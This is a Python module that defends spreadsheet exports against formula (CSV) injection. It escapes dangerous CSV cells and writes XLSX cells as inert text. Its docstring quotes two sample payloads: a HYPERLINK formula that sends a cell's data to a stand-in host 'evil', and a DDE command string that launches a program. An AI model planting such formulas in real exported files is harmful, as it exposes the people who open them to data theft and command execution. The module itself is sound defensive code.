"""Spreadsheet-safe cells: the one place where aimskit neutralises formula injection.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell as a formula when its text starts
with ``=``, ``+``, ``-`` or ``@``, and some versions also when it starts with a tab or a carriage
return (OWASP, "CSV Injection"): ``=HYPERLINK("http://evil/?"&A1, "Click")`` or ``+cmd|' /C calc'!A0``
in an owner or justification field runs when the client opens the handover. Every CSV and XLSX
writer in aimskit passes its cells through this module:

* CSV (:func:`safe_cell`, :func:`safe_row`, :func:`safe_frame`): a dangerous text cell gets a
  leading apostrophe (``'=HYPERLINK(...)``), OWASP's recommendation; the spreadsheet then shows it
  as text. Numbers are left alone: a value that *is* a number (an ``int``/``float``, or text such
  as ``-2`` or ``+1.5e3`` that reads as a plain decimal number) is never a formula, so negative
  numbers in numeric columns keep their value. ``-2+3`` is not a number and is neutralised.
* XLSX (:func:`set_text_cell`): the cell is written as a *string* cell (never a formula cell), with
  the text number format ``@`` and, when the text would be read as a formula if typed in, Excel's
  ``quotePrefix`` flag, so the value stays exactly as written (lossless for a round trip) and stays
  inert even when someone edits the cell and presses Enter.

Full-width lookalikes (``＝``, ``＋``, ``－``, ``＠``) are treated like their ASCII forms, since
some spreadsheet locales convert them on input.
"""

from __future__ import annotations

import math
import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
TEXT_FORMAT = "@"


def is_number_text(text: str) -> bool:
    """Whether ``text`` is a plain decimal number (``-2``, ``+1.5``, ``3e-4``), which no spreadsheet runs."""
    return bool(_NUMBER.fullmatch(text))


def dangerous(value: Any) -> bool:
    """Whether a spreadsheet would interpret ``value`` (as text in a cell) as a formula."""
    return isinstance(value, str) and value.startswith(TRIGGERS) and not is_number_text(value)


def safe_cell(value: Any) -> Any:
    """``value`` made inert for a CSV cell: dangerous text gets a leading ``'``; anything else is unchanged."""
    if dangerous(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer``, every cell through :func:`safe_cell`."""
    return [safe_cell(v) for v in values]


def safe_frame(frame: Any) -> Any:
    """A copy of a DataFrame with every text cell through :func:`safe_cell` (numeric columns untouched)."""
    out = frame.copy()
    for name in out.columns:
        if getattr(out[name].dtype, "kind", "O") not in "biufcmM":  # text (object or string) columns
            out[name] = out[name].map(safe_cell)
    return out


def cell_text(value: Any) -> str:
    """The text of a cell read from a spreadsheet, as a person wrote it.

    A cell a person typed into may hold a number, a date or a boolean rather than text: ``3`` is
    written ``3`` (not ``3.0``), a date ``YYYY-MM-DD`` (with the time only when it is not midnight),
    a boolean ``yes``/``no``; ``None`` is empty.
    """
    import datetime as dt

    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return _number_text(value)
    if isinstance(value, dt.date | dt.time):
        return _date_text(value)
    return str(value)


def _number_text(value: bool | int | float) -> str:
    """A boolean as ``yes``/``no``; a whole number without ``.0``; any other float as Python writes it."""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int):
        return str(value)
    if math.isfinite(value) and value.is_integer() and abs(value) < 1e15:
        return str(int(value))
    return repr(value)


def _date_text(value: Any) -> str:
    """A date ``YYYY-MM-DD``; a date and time with its time only when it is not midnight; a time ``HH:MM:SS``."""
    import datetime as dt

    if isinstance(value, dt.datetime):
        if value.time() == dt.time(0, 0):
            return value.date().isoformat()
        return value.isoformat(sep=" ")
    return value.isoformat()  # a dt.date or a dt.time


def set_text_cell(cell: Any, text: str) -> None:
    """Write ``text`` into an openpyxl cell as inert text: a string cell, number format ``@``, and
    ``quotePrefix`` when it would otherwise be read as a formula (or a number) once edited."""
    cell.value = text
    cell.data_type = "s"  # openpyxl makes "=..." a formula cell; a string cell is never evaluated
    cell.number_format = TEXT_FORMAT
    if dangerous(text) or text.startswith("'"):
        cell.quotePrefix = True
